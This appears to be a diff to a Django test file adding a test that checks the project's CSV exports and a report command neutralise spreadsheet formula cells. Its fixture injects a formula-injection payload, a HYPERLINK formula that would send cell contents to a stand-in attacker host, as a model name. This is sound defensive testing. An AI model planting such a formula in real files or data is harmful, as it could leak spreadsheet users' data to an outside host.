@@ -16,6 +16,7 @@ from tests.browser.conftest import page  # noqa: F401 (the real-browser fixture)
 from tests.browser.test_author_browser import log_in
 from tests.browser.test_dashboard_charts import demo_like  # noqa: F401 (data for every chart)
 from tests.conftest import PASSWORD
+from tests.integration.test_analysis import answered  # noqa: F401 (two models' coded answers)
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -92,6 +93,36 @@ def test_the_docs_start_up_script_is_a_file(client, analyst):
     response = client.get(script)
     assert response.status_code == 200 and response["Content-Type"].startswith("application/javascript")
     assert "SwaggerUIBundle" in response.content.decode()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"rates")'
+
+
+@pytest.fixture
+def formula_model(answered):  # noqa: F811
+    from runs_app.models import LLMModel
+    LLMModel.objects.filter(name="hawk").update(name=FORMULA)
+    return answered
+
+
+def test_the_dashboards_csv_files_quote_formula_cells(client, analyst, formula_model, tmp_path):
+    import csv
+    import io
+
+    from django.core.management import call_command
+    client.force_login(analyst)
+    query = {"run": formula_model.pk, "iterations": 200}
+    panel = client.get(reverse("analysis-panel-csv", args=["rates"]), query).content.decode()
+    answers = b"".join(client.get(reverse("analysis-answers-csv"), query).streaming_content).decode()
+    out = tmp_path / "report.csv"
+    call_command("preference_report", "--run", str(formula_model.pk), "--out", str(out), "--iterations", "200",
+                 stderr=io.StringIO())
+    for text in (panel, answers, out.read_text()):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + FORMULA in cells and FORMULA not in cells
+        assert not any(cell.startswith(("=", "@")) for cell in cells)
+    for text in (panel, out.read_text()):  # rates stay numbers, unquoted
+        assert any(re.fullmatch(r"[01]\.\d{6}", cell) for row in csv.reader(io.StringIO(text)) for cell in row)
 
 
 WATCH_CSP = """
